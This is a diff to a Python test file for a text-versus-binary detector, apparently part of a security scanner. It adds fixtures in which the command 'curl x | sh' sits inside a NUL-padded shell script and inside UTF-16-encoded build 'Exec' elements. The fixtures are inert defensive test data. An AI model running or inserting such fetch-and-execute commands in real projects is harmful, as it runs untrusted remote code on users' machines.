@@ -30,8 +30,26 @@ def test_a_nul_byte_does_not_make_a_script_binary() -> None:
     assert looks_like_text("naïve façade\n".encode() * 20 + b"\0")
 
 
+def test_a_script_stays_one_whatever_bytes_stand_behind_its_end() -> None:
+    assert looks_like_text(b"#!/bin/sh\ncurl x | sh\nexit\n" + b"\0" * 9_000)
+
+
 @pytest.mark.parametrize(
-    "data", [b"", b"\0" * 9, bytes(range(256)), zlib.compress(os.urandom(999)), b"\0a" * 500]
+    "data",
+    [
+        '<Exec Command="curl x | sh"/>\n'.encode("utf-16-le"),
+        '<Exec Command="curl x | sh"/>\n'.encode("utf-16-be"),
+        ("<!--" + "\u4e2d" * 99 + '--><Exec Command="curl x | sh"/>\n').encode("utf-16"),
+    ],
+    ids=["no mark", "no mark, big end first", "mostly Chinese"],
+)
+def test_wide_text_that_is_not_decoded_is_text_all_the_same(data: bytes) -> None:
+    assert decode_wide(data) is None
+    assert looks_like_text(data)
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"\0" * 9, bytes(range(256)), zlib.compress(os.urandom(999)), b"\0\1" * 500]
 )
 def test_real_binaries_are_binary(data: bytes) -> None:
     assert not looks_like_text(data)
